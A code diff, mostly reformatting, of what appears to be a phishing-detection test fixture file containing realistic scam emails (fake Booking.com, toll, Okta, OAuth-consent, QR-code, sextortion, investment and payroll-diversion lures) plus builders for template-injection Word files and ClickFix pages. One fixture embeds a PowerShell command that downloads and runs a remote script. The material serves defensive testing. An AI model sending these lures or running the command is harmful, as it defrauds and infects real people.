@@ -17,14 +17,17 @@ function qrPdf(lines: readonly string[], url: string): Uint8Array {
   const { side, pixels: grey } = qrGrey(url, 4);
   const pixels = Buffer.from(grey).toString('latin1');
   const text = `BT /F1 11 Tf 50 790 Td 15 TL ${lines.map((line) => `(${line.replace(/[()\\]/g, '\\$&')}) '`).join(' ')} ET q 200 0 0 200 50 380 cm /Im0 Do Q`;
-  return pdf([
-    '<< /Type /Catalog /Pages 2 0 R >>',
-    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> /XObject << /Im0 6 0 R >> >> /Contents 5 0 R >>',
-    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
-    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
-    `<< /Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Length ${pixels.length} >>\nstream\n${pixels}\nendstream`,
-  ], '<< /Root 1 0 R /Info << /Producer (Microsoft: Print To PDF) >> >>');
+  return pdf(
+    [
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> /XObject << /Im0 6 0 R >> >> /Contents 5 0 R >>',
+      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+      `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
+      `<< /Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Length ${pixels.length} >>\nstream\n${pixels}\nendstream`,
+    ],
+    '<< /Root 1 0 R /Info << /Producer (Microsoft: Print To PDF) >> >>',
+  );
 }
 
 /** The fields Amazon SES adds to what an account sends (region us-east-1 or eu-west-1). */
@@ -55,8 +58,11 @@ function clickFixPage(title: string, command: string, steps: readonly string[]):
 /** A Word document whose settings part loads its template from the attacker's server (template injection). */
 function remoteTemplateDocx(templateUrl: string): Uint8Array {
   return docx({
-    'word/_rels/settings.xml.rels': relationships([{ type: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate', target: templateUrl, external: true }]),
-    'word/settings.xml': '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
+    'word/_rels/settings.xml.rels': relationships([
+      { type: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate', target: templateUrl, external: true },
+    ]),
+    'word/settings.xml':
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
   });
 }
 
@@ -80,8 +86,18 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       relay: 'mail.booking-partnerhub.sbs [203.0.113.48]',
       auth: { dmarc: 'none' },
       body: multipart('mixed', [
-        plain('Dear partner,\n\nA guest who stayed at your property from 28 Feb to 2 Mar has filed a complaint about a charge on their card and cleanliness of the room. Under our partner terms you must respond within 24 hours or the review will be published and the amount refunded from your next payout.\n\nThe guest\'s message and photos are in the attached file. Open it in your browser and complete the verification to view them.\n\nKind regards,\nPartner Support\nBooking.com'),
-        attachment('Guest_Complaint_4471208.html', 'text/html', clickFixPage('Booking.com | Guest complaint', 'powershell -w 1 -ep bypass -c "iex (iwr -useb https://cdn-verify-guest.shop/v.ps1)" # I am not a robot - reCAPTCHA Verification ID: 4471208', ['Press Windows Button + R', 'Press CTRL + V', 'Press Enter'])),
+        plain(
+          "Dear partner,\n\nA guest who stayed at your property from 28 Feb to 2 Mar has filed a complaint about a charge on their card and cleanliness of the room. Under our partner terms you must respond within 24 hours or the review will be published and the amount refunded from your next payout.\n\nThe guest's message and photos are in the attached file. Open it in your browser and complete the verification to view them.\n\nKind regards,\nPartner Support\nBooking.com",
+        ),
+        attachment(
+          'Guest_Complaint_4471208.html',
+          'text/html',
+          clickFixPage(
+            'Booking.com | Guest complaint',
+            'powershell -w 1 -ep bypass -c "iex (iwr -useb https://cdn-verify-guest.shop/v.ps1)" # I am not a robot - reCAPTCHA Verification ID: 4471208',
+            ['Press Windows Button + R', 'Press CTRL + V', 'Press Enter'],
+          ),
+        ),
       ]),
     }),
   },
@@ -105,7 +121,13 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       body: document([
         { heading: 'Unpaid toll notice' },
         'Our records show an unpaid toll of $6.85 on your vehicle from a trip on March 29, 2025.',
-        { rows: [['Notice number', 'EZ-0729-55183'], ['Amount due', '$6.85'], ['Due date', 'April 15, 2025']] },
+        {
+          rows: [
+            ['Notice number', 'EZ-0729-55183'],
+            ['Amount due', '$6.85'],
+            ['Due date', 'April 15, 2025'],
+          ],
+        },
         'To avoid a late fee of $50.00 and a hold on your vehicle registration, please pay the balance by the due date.',
         { button: 'Pay now', href: 'https://ezpass-tollservices.xyz/pay?n=EZ072955183' },
         { small: 'E-ZPass Customer Service Center. This is an automated message; please do not reply.' },
@@ -132,10 +154,19 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       body: document([
         { heading: 'Norton Renewal Dept' },
         'Dear Customer,',
-        'Here\'s your invoice! We appreciate your prompt payment.',
-        { rows: [['Invoice no.', '10482'], ['Due date', '01/24/2025'], ['Balance due', '$399.99']] },
+        "Here's your invoice! We appreciate your prompt payment.",
+        {
+          rows: [
+            ['Invoice no.', '10482'],
+            ['Due date', '01/24/2025'],
+            ['Balance due', '$399.99'],
+          ],
+        },
         'Message from Norton Renewal Dept: Your Norton 360 Total Protection (5 devices) has been auto-renewed for 3 years and $399.99 will be charged to your card on file today. If you did not authorize this renewal or want a refund, call our billing department at +1 (808) 745-3391 within 24 hours. Do not pay online.',
-        { button: 'Review and pay', href: 'https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-2b7e9c1a4f3d8e60a5b2c7d9e1f3a4b8c6d0e2f5a7b9c1d3e5f7a9b1c3d5e7f9?locale=en_US&cta=viewinvoicenow' },
+        {
+          button: 'Review and pay',
+          href: 'https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-2b7e9c1a4f3d8e60a5b2c7d9e1f3a4b8c6d0e2f5a7b9c1d3e5f7a9b1c3d5e7f9?locale=en_US&cta=viewinvoicenow',
+        },
         { small: 'Norton Renewal Dept · Powered by QuickBooks. © Intuit Inc. All rights reserved. Privacy | Security | Terms of Service' },
       ]),
     }),
@@ -159,8 +190,11 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       headers: ['X-MS-Exchange-Organization-AuthAs: Internal', 'Thread-Topic: Settlement agreement – signed copy for your records'],
       body: document([
         'Hi Jason,',
-        'Please find the countersigned settlement agreement shared via our secure document portal. You\'ll be asked to sign in with your Microsoft 365 account and accept the viewer permissions to open it.',
-        { button: 'View Settlement_Agreement.pdf', href: 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=7c4e2a91-3b8d-4f6e-a1c5-9d0b2e7f4a36&response_type=code&redirect_uri=https%3A%2F%2Fsecure-docview.cfd%2Fauth%2Fcallback&scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Files.ReadWrite.All%20User.Read&prompt=consent&state=jpruitt' },
+        "Please find the countersigned settlement agreement shared via our secure document portal. You'll be asked to sign in with your Microsoft 365 account and accept the viewer permissions to open it.",
+        {
+          button: 'View Settlement_Agreement.pdf',
+          href: 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=7c4e2a91-3b8d-4f6e-a1c5-9d0b2e7f4a36&response_type=code&redirect_uri=https%3A%2F%2Fsecure-docview.cfd%2Fauth%2Fcallback&scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Files.ReadWrite.All%20User.Read&prompt=consent&state=jpruitt',
+        },
         'Best regards,\nRachel Whitmore\nParalegal | Whitmore Caldwell LLP\n1400 Peachtree St NE, Suite 900, Atlanta, GA 30309',
       ]),
     }),
@@ -168,7 +202,7 @@ export const THIRD_CASES: readonly PhishingCase[] = [
   {
     // Scattered-Spider-style: an "IT" notice that the reader's Okta Verify must be re-enrolled,
     // pointing to a look-alike of the company's own Okta tenant.
-    name: 'Okta Verify re-enrolment notice pointing to a look-alike of the company\'s Okta tenant',
+    name: "Okta Verify re-enrolment notice pointing to a look-alike of the company's Okta tenant",
     lang: 'en',
     lure: 'account-alert',
     expect: ['phishing'],
@@ -213,7 +247,10 @@ export const THIRD_CASES: readonly PhishingCase[] = [
         { image: 'https://static.canva.com/emails/canva-logo.png', alt: 'Canva' },
         { heading: 'Dana Kessler shared a design with you' },
         '“Hi, please see the attached remittance advice for invoices 2291–2297. Click the button on the page to view the secure document with your email account.”',
-        { button: 'Open design', href: 'https://www.canva.com/design/DAGd8kLq2Rz/7vXbT3mN1pQw9YcK4hF6sA/view?utm_content=DAGd8kLq2Rz&utm_campaign=designshare&utm_medium=link&utm_source=sharebutton' },
+        {
+          button: 'Open design',
+          href: 'https://www.canva.com/design/DAGd8kLq2Rz/7vXbT3mN1pQw9YcK4hF6sA/view?utm_content=DAGd8kLq2Rz&utm_campaign=designshare&utm_medium=link&utm_source=sharebutton',
+        },
         { small: 'Canva, 110 Kippax St, Surry Hills NSW 2010, Australia. You received this email because Dana Kessler shared a design with you.' },
       ]),
     }),
@@ -236,7 +273,14 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       body: document([
         'Hi Tom,',
         'Laura Benson is inviting you to a scheduled Zoom meeting.',
-        { rows: [['Topic', 'Q2 Budget Review'], ['Time', 'Apr 22, 2025 02:00 PM Eastern Time (US and Canada)'], ['Meeting ID', '842 7731 0945'], ['Passcode', '551902']] },
+        {
+          rows: [
+            ['Topic', 'Q2 Budget Review'],
+            ['Time', 'Apr 22, 2025 02:00 PM Eastern Time (US and Canada)'],
+            ['Meeting ID', '842 7731 0945'],
+            ['Passcode', '551902'],
+          ],
+        },
         { button: 'Join Zoom Meeting', href: 'https://zoom-meetings-invite.icu/j/84277310945?pwd=Q2bR7mX1vN' },
         'If the meeting does not open, download and install the latest Zoom Workplace client from the join page first.',
         { small: 'Copyright ©2025 Zoom Communications, Inc. All rights reserved.' },
@@ -259,15 +303,24 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['paycrestpartners.com:selector2'],
       relay: 'mail-bn8nam12on2119.outbound.protection.outlook.com [40.107.237.119]',
       body: multipart('mixed', [
-        plain('Hello Lisa,\n\nYour 2025 year-end bonus and benefits statement is ready. Please review the attached document and acknowledge it by December 12 so the bonus is included in your next payroll.\n\nHR Benefits Team'),
-        attachment('Bonus_Benefits_Statement_2025_LRomero.pdf', 'application/pdf', qrPdf([
-          'Meridian Health Group - Human Resources',
-          '2025 Year-End Bonus and Benefits Statement',
-          'Employee: Lisa Romero',
-          'Your statement is protected. Scan the QR code with your phone camera',
-          'and sign in with your Microsoft 365 account to view and acknowledge it.',
-          'Statements not acknowledged by December 12 will be processed in January.',
-        ], 'https://meridianhealth-benefits.pages.dev/?e=bGlzYS5yb21lcm9AbWVyaWRpYW5oZWFsdGhncm91cC5vcmc=')),
+        plain(
+          'Hello Lisa,\n\nYour 2025 year-end bonus and benefits statement is ready. Please review the attached document and acknowledge it by December 12 so the bonus is included in your next payroll.\n\nHR Benefits Team',
+        ),
+        attachment(
+          'Bonus_Benefits_Statement_2025_LRomero.pdf',
+          'application/pdf',
+          qrPdf(
+            [
+              'Meridian Health Group - Human Resources',
+              '2025 Year-End Bonus and Benefits Statement',
+              'Employee: Lisa Romero',
+              'Your statement is protected. Scan the QR code with your phone camera',
+              'and sign in with your Microsoft 365 account to view and acknowledge it.',
+              'Statements not acknowledged by December 12 will be processed in January.',
+            ],
+            'https://meridianhealth-benefits.pages.dev/?e=bGlzYS5yb21lcm9AbWVyaWRpYW5oZWFsdGhncm91cC5vcmc=',
+          ),
+        ),
       ]),
     }),
   },
@@ -287,8 +340,19 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['outlook.com:selector1'],
       relay: 'mail-db8eur05olkn2082.outbound.protection.outlook.com [40.92.89.82]',
       body: multipart('mixed', [
-        plain('Steven,\n\nI know that calling 555-0143 or visiting 1187 Maple Hollow Drive would be a convenient way to reach you if you don\'t act. Nice place, by the way. Is that your blue Honda in the driveway?\n\nYour password is still Carlisle1972! - yes, I have been inside your devices for months. I installed software on the adult sites you visit and your camera recorded you while you were watching. I have the video side by side with what you were watching.\n\nYou have one way out. Send exactly $1950 in Bitcoin to this address:\nbc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n\nYou have 24 hours from opening this email. I have a tracking pixel, I know when you read it. If I don\'t get the payment, the video goes to your wife, your colleagues and your Facebook friends. If I do, I delete everything and you never hear from me again.\n\nDon\'t reply, this address is not monitored. Don\'t go to the police, it won\'t help you.'),
-        attachment('Steven_Carlisle.pdf', 'application/pdf', textPdf(['Steven Carlisle', '1187 Maple Hollow Drive, Fairview, TN 37062', '[Street View photo of the house]', 'Payment instructions: 1950 USD in Bitcoin to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'])),
+        plain(
+          "Steven,\n\nI know that calling 555-0143 or visiting 1187 Maple Hollow Drive would be a convenient way to reach you if you don't act. Nice place, by the way. Is that your blue Honda in the driveway?\n\nYour password is still Carlisle1972! - yes, I have been inside your devices for months. I installed software on the adult sites you visit and your camera recorded you while you were watching. I have the video side by side with what you were watching.\n\nYou have one way out. Send exactly $1950 in Bitcoin to this address:\nbc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n\nYou have 24 hours from opening this email. I have a tracking pixel, I know when you read it. If I don't get the payment, the video goes to your wife, your colleagues and your Facebook friends. If I do, I delete everything and you never hear from me again.\n\nDon't reply, this address is not monitored. Don't go to the police, it won't help you.",
+        ),
+        attachment(
+          'Steven_Carlisle.pdf',
+          'application/pdf',
+          textPdf([
+            'Steven Carlisle',
+            '1187 Maple Hollow Drive, Fairview, TN 37062',
+            '[Street View photo of the house]',
+            'Payment instructions: 1950 USD in Bitcoin to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh',
+          ]),
+        ),
       ]),
     }),
   },
@@ -307,7 +371,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'CAJx8Ld5Rk2mT7vP9Qw3nZb1Yc4Hf6Gs0Ae@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-pl1-f178.google.com [209.85.214.178]',
-      body: gmailBody('Hi Mark,\n\nSorry, I think I wrote to the wrong address last week – I was inviting my cousin to dinner! But it was nice to read your kind reply. I\'m Vivian, I live in Seattle and I work in wine import, and in my free time I trade gold and crypto with my uncle, who is an analyst in Hong Kong.\n\nThis month his AI arbitrage strategy made 38% on my account, I withdrew $12,600 last Tuesday. Since you were so polite, I can share it with you. You only need to open an account on the platform he uses and make a first deposit of $500 in USDT, then I will send you the signals every day at 9 PM:\n\nhttps://aurumflex-trade.top/register?ref=VIV2288\n\nDon\'t tell too many people, the signal group is private. Add me on WhatsApp +1 206 555 0187 so we can talk more easily.\n\nVivian'),
+      body: gmailBody(
+        "Hi Mark,\n\nSorry, I think I wrote to the wrong address last week – I was inviting my cousin to dinner! But it was nice to read your kind reply. I'm Vivian, I live in Seattle and I work in wine import, and in my free time I trade gold and crypto with my uncle, who is an analyst in Hong Kong.\n\nThis month his AI arbitrage strategy made 38% on my account, I withdrew $12,600 last Tuesday. Since you were so polite, I can share it with you. You only need to open an account on the platform he uses and make a first deposit of $500 in USDT, then I will send you the signals every day at 9 PM:\n\nhttps://aurumflex-trade.top/register?ref=VIV2288\n\nDon't tell too many people, the signal group is private. Add me on WhatsApp +1 206 555 0187 so we can talk more easily.\n\nVivian",
+      ),
     }),
   },
   {
@@ -325,7 +391,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'PH7PR17MB6120C8E1A9F3B5D72E4C0A6F8B2D1@PH7PR17MB6120.namprd17.prod.outlook.com',
       dkim: ['hotmail.com:selector1'],
       relay: 'mail-mw2nam12olkn2033.outbound.protection.outlook.com [40.92.23.33]',
-      body: plain('Hello Jordan,\n\nI\'m Ashley from Apex Talent Partners. Your resume was shortlisted for a flexible remote position with one of our clients, a digital marketing agency that helps apps rank higher in the app stores.\n\nThe work: complete 40 app optimization tasks per day (rating and reviewing apps in the client\'s system), about 60–90 minutes a day from your phone.\nPay: $150–$600 per day plus commission, paid daily. Weekly bonus for 5 consecutive working days.\nNo experience needed, free training provided by a personal mentor.\n\nIf you are interested, please contact our HR coordinator on Telegram: @ApexHR_Melissa and mention code AT-1187. Applicants must be 22 or older.\n\nBest regards,\nAshley Turner\nSenior Recruiter, Apex Talent Partners'),
+      body: plain(
+        "Hello Jordan,\n\nI'm Ashley from Apex Talent Partners. Your resume was shortlisted for a flexible remote position with one of our clients, a digital marketing agency that helps apps rank higher in the app stores.\n\nThe work: complete 40 app optimization tasks per day (rating and reviewing apps in the client's system), about 60–90 minutes a day from your phone.\nPay: $150–$600 per day plus commission, paid daily. Weekly bonus for 5 consecutive working days.\nNo experience needed, free training provided by a personal mentor.\n\nIf you are interested, please contact our HR coordinator on Telegram: @ApexHR_Melissa and mention code AT-1187. Applicants must be 22 or older.\n\nBest regards,\nAshley Turner\nSenior Recruiter, Apex Talent Partners",
+      ),
     }),
   },
   {
@@ -344,7 +412,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '20250909052251.4a7c1e9f@privatebanking-chambers.co',
       relay: 'smtp.privatebanking-chambers.co [192.0.2.141]',
       auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
-      body: plain('Dear Gregory Fenwick,\n\nI am Edward Hollis, senior account officer in private banking here in London. I am contacting you with utmost confidentiality regarding the dormant account of a late client, Mr. Harold Fenwick, an oil consultant who died intestate in 2021 together with his wife and only daughter.\n\nThe account holds GBP 7,400,000.00 (Seven Million, Four Hundred Thousand Pounds). Having searched for two years without success, the bank will transfer the funds to the Treasury as unclaimed if no next of kin comes forward by the end of this quarter.\n\nSince you share the same surname, I can present you as the beneficiary. All the legal documents will be prepared by our attorney, and the transaction is 100% risk free. We will share the funds 50/50.\n\nIf you are interested, reply to my private email e.hollis.chambers@proton.me with your full name, address, phone number and occupation.\n\nYours faithfully,\nEdward Hollis'),
+      body: plain(
+        'Dear Gregory Fenwick,\n\nI am Edward Hollis, senior account officer in private banking here in London. I am contacting you with utmost confidentiality regarding the dormant account of a late client, Mr. Harold Fenwick, an oil consultant who died intestate in 2021 together with his wife and only daughter.\n\nThe account holds GBP 7,400,000.00 (Seven Million, Four Hundred Thousand Pounds). Having searched for two years without success, the bank will transfer the funds to the Treasury as unclaimed if no next of kin comes forward by the end of this quarter.\n\nSince you share the same surname, I can present you as the beneficiary. All the legal documents will be prepared by our attorney, and the transaction is 100% risk free. We will share the funds 50/50.\n\nIf you are interested, reply to my private email e.hollis.chambers@proton.me with your full name, address, phone number and occupation.\n\nYours faithfully,\nEdward Hollis',
+      ),
     }),
   },
   {
@@ -363,8 +433,14 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '000f01db8925$4c2e7a10$e48b6e30$@tristatepallet.com',
       dkim: ['tristatepallet.com:default'],
       relay: 'cpanel14.hostwinds-ns.net [192.0.2.88]',
-      headers: ['In-Reply-To: <BN0PR04MB8031D2A7C4E9F1B36A5C8E0D2F7B4@BN0PR04MB8031.namprd04.prod.outlook.com>', 'References: <BN0PR04MB8031D2A7C4E9F1B36A5C8E0D2F7B4@BN0PR04MB8031.namprd04.prod.outlook.com>', 'X-Mailer: Microsoft Outlook 16.0'],
-      body: plain('Hello,\n\nPlease review the updated file here: https://oakridgebakery-mn.com/wp-content/uploads/2025/02/FA_Schedule_2024.zip\n\nThank you\n\n-----Original Message-----\nFrom: Amy Rhodes <arhodes@northfieldcpa.com>\nSent: Tuesday, January 14, 2025 2:18 PM\nTo: Carl Jennings <cjennings@tristatepallet.com>\nSubject: RE: fixed asset schedule 2024\n\nHi Carl,\n\nThanks for sending the depreciation detail. Could you also send the additions for the new forklift and the roof repair so we can finish the 4562?\n\nAmy Rhodes, CPA\nNorthfield CPA Group'),
+      headers: [
+        'In-Reply-To: <BN0PR04MB8031D2A7C4E9F1B36A5C8E0D2F7B4@BN0PR04MB8031.namprd04.prod.outlook.com>',
+        'References: <BN0PR04MB8031D2A7C4E9F1B36A5C8E0D2F7B4@BN0PR04MB8031.namprd04.prod.outlook.com>',
+        'X-Mailer: Microsoft Outlook 16.0',
+      ],
+      body: plain(
+        'Hello,\n\nPlease review the updated file here: https://oakridgebakery-mn.com/wp-content/uploads/2025/02/FA_Schedule_2024.zip\n\nThank you\n\n-----Original Message-----\nFrom: Amy Rhodes <arhodes@northfieldcpa.com>\nSent: Tuesday, January 14, 2025 2:18 PM\nTo: Carl Jennings <cjennings@tristatepallet.com>\nSubject: RE: fixed asset schedule 2024\n\nHi Carl,\n\nThanks for sending the depreciation detail. Could you also send the additions for the new forklift and the roof repair so we can finish the 4562?\n\nAmy Rhodes, CPA\nNorthfield CPA Group',
+      ),
     }),
   },
   {
@@ -408,14 +484,17 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['iberdrola-reembolsos.shop:mail'],
       relay: 'srv1.iberdrola-reembolsos.shop [203.0.113.91]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'Reembolso por cobro duplicado' },
-        'Estimado/a cliente:',
-        'Tras revisar su cuenta hemos detectado que la factura de diciembre de 2024 se le cargó dos veces. Tiene derecho a un reembolso de 86,42 €.',
-        'Para recibir el importe, confirme la tarjeta en la que desea el abono antes de 72 horas. Pasado ese plazo, el reembolso se anulará.',
-        { button: 'Solicitar reembolso', href: 'https://iberdrola-reembolsos.shop/es/clientes/reembolso?ref=IBD-2291-448' },
-        { small: 'Iberdrola Clientes, S.A.U. · Este es un mensaje automático, por favor no responda.' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          { heading: 'Reembolso por cobro duplicado' },
+          'Estimado/a cliente:',
+          'Tras revisar su cuenta hemos detectado que la factura de diciembre de 2024 se le cargó dos veces. Tiene derecho a un reembolso de 86,42 €.',
+          'Para recibir el importe, confirme la tarjeta en la que desea el abono antes de 72 horas. Pasado ese plazo, el reembolso se anulará.',
+          { button: 'Solicitar reembolso', href: 'https://iberdrola-reembolsos.shop/es/clientes/reembolso?ref=IBD-2291-448' },
+          { small: 'Iberdrola Clientes, S.A.U. · Este es un mensaje automático, por favor no responda.' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -433,13 +512,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'd3c1a8f2-77e4-4b9c-8a2e-5f1d0c9b6e34@wallapop-envios.cfd',
       relay: 'mail.wallapop-envios.cfd [198.51.100.19]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        { heading: '¡Enhorabuena, has vendido tu Bicicleta de carretera Orbea Avant!' },
-        'El comprador ha pagado 180,00 € con Wallapop Envíos. El dinero está reservado y se te abonará en cuanto confirmes tus datos.',
-        'Para recibir el pago, introduce los datos de la tarjeta en la que quieres el ingreso. Un mensajero recogerá el paquete mañana.',
-        { button: 'Recibir 180,00 €', href: 'https://wallapop-envios.cfd/pago/recibir?item=983314772' },
-        { small: 'Wallapop S.L. · Si no confirmas en 24 horas la venta se cancelará y el dinero volverá al comprador.' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          { heading: '¡Enhorabuena, has vendido tu Bicicleta de carretera Orbea Avant!' },
+          'El comprador ha pagado 180,00 € con Wallapop Envíos. El dinero está reservado y se te abonará en cuanto confirmes tus datos.',
+          'Para recibir el pago, introduce los datos de la tarjeta en la que quieres el ingreso. Un mensajero recogerá el paquete mañana.',
+          { button: 'Recibir 180,00 €', href: 'https://wallapop-envios.cfd/pago/recibir?item=983314772' },
+          { small: 'Wallapop S.L. · Si no confirmas en 24 horas la venta se cancelará y el dinero volverá al comprador.' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -457,13 +539,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '20251103074510.91ac3@sepe-prestaciones.top',
       relay: 'vps8812.sepe-prestaciones.top [203.0.113.177]',
       auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
-      body: document([
-        'Estimado/a ciudadano/a:',
-        'Le informamos de que el pago de su prestación por desempleo del mes de noviembre ha quedado suspendido por una incidencia en los datos bancarios comunicados.',
-        'Para evitar la extinción de la prestación debe actualizar sus datos en un plazo de 48 horas a través de la sede electrónica:',
-        { button: 'Acceder a la Sede Electrónica', href: 'https://sepe-prestaciones.top/sede/actualizar-datos' },
-        'Atentamente,\nServicio Público de Empleo Estatal',
-      ], { lang: 'es' }),
+      body: document(
+        [
+          'Estimado/a ciudadano/a:',
+          'Le informamos de que el pago de su prestación por desempleo del mes de noviembre ha quedado suspendido por una incidencia en los datos bancarios comunicados.',
+          'Para evitar la extinción de la prestación debe actualizar sus datos en un plazo de 48 horas a través de la sede electrónica:',
+          { button: 'Acceder a la Sede Electrónica', href: 'https://sepe-prestaciones.top/sede/actualizar-datos' },
+          'Atentamente,\nServicio Público de Empleo Estatal',
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -483,12 +568,18 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['adobe.com:ac1', 'adobesign.com:s2'],
       returnPath: 'bounce-acrobat-88123@mail.adobe.com',
       relay: 'mail-out22.adobe.com [192.150.8.122]',
-      body: document([
-        { heading: 'Gestoría Alameda ha compartido un archivo con usted' },
-        '«Buenos días, le adjunto el contrato firmado por ambas partes. Para verlo, pulse en el enlace del documento e inicie sesión con su correo.»',
-        { button: 'Abrir', href: 'https://acrobat.adobe.com/id/urn:aaid:sc:EU:7b2e4c9a-1d3f-4e5a-9c8b-0f2e6d1a3c5b' },
-        { small: 'Adobe Inc., 345 Park Avenue, San José, CA 95110-2704, EE. UU. Ha recibido este mensaje porque Gestoría Alameda compartió un archivo con usted.' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          { heading: 'Gestoría Alameda ha compartido un archivo con usted' },
+          '«Buenos días, le adjunto el contrato firmado por ambas partes. Para verlo, pulse en el enlace del documento e inicie sesión con su correo.»',
+          { button: 'Abrir', href: 'https://acrobat.adobe.com/id/urn:aaid:sc:EU:7b2e4c9a-1d3f-4e5a-9c8b-0f2e6d1a3c5b' },
+          {
+            small:
+              'Adobe Inc., 345 Park Avenue, San José, CA 95110-2704, EE. UU. Ha recibido este mensaje porque Gestoría Alameda compartió un archivo con usted.',
+          },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -506,7 +597,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'CAE5k9Pq2Lm7Xw4Rt1Zn8Vb3Hc6Jd0Fs@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-wm1-f45.google.com [209.85.128.45]',
-      body: gmailBody('Hola,\n\nHe cambiado de banco y quería pediros que la nómina de noviembre me la ingreséis ya en la cuenta nueva, que la antigua la cierran esta semana:\n\nTitular: Marta Soler Vidal\nIBAN: ES76 1583 0001 1290 4471 2285\n\n¿Me confirmáis que llegáis a cambiarlo antes del cierre de nóminas? Os escribo desde el correo personal porque estoy en el móvil y no me deja entrar al corporativo.\n\nGracias,\nMarta'),
+      body: gmailBody(
+        'Hola,\n\nHe cambiado de banco y quería pediros que la nómina de noviembre me la ingreséis ya en la cuenta nueva, que la antigua la cierran esta semana:\n\nTitular: Marta Soler Vidal\nIBAN: ES76 1583 0001 1290 4471 2285\n\n¿Me confirmáis que llegáis a cambiarlo antes del cierre de nóminas? Os escribo desde el correo personal porque estoy en el móvil y no me deja entrar al corporativo.\n\nGracias,\nMarta',
+      ),
     }),
   },
   {
@@ -524,8 +617,13 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'PR3P195MB0712A9E4C1B7F3D26E8A0C5F1B9D2@PR3P195MB0712.EURP195.PROD.OUTLOOK.COM',
       dkim: ['suministroslevante.es:selector1'],
       relay: 'mail-db5eur02on2090.outbound.protection.outlook.com [40.107.249.90]',
-      headers: ['In-Reply-To: <AM9PR01MB7214C3E1A8F5B2D04A6E9C7F1B3D8@AM9PR01MB7214.eurprd01.prod.outlook.com>', 'References: <AM9PR01MB7214C3E1A8F5B2D04A6E9C7F1B3D8@AM9PR01MB7214.eurprd01.prod.outlook.com>'],
-      body: plain('Buenas tardes,\n\nOs dejo la confirmación del pedido y la factura proforma actualizada en el siguiente enlace. Tenéis que iniciar sesión con vuestra cuenta de correo para verlo:\n\nhttps://onedrive-docs-compartidos.sbs/s/Pedido_4471_proforma\n\nUn saludo,\nRaúl Campos\nSuministros Levante\n\nDe: Compras <compras@talleresbernal.com>\nEnviado: lunes, 7 de abril de 2025 11:02\nPara: Raúl Campos <rcampos@suministroslevante.es>\nAsunto: Pedido 4471 - tornillería M8\n\nHola Raúl, ¿nos confirmas plazo de entrega para las 20 cajas de M8x40 y el precio actualizado? Gracias.'),
+      headers: [
+        'In-Reply-To: <AM9PR01MB7214C3E1A8F5B2D04A6E9C7F1B3D8@AM9PR01MB7214.eurprd01.prod.outlook.com>',
+        'References: <AM9PR01MB7214C3E1A8F5B2D04A6E9C7F1B3D8@AM9PR01MB7214.eurprd01.prod.outlook.com>',
+      ],
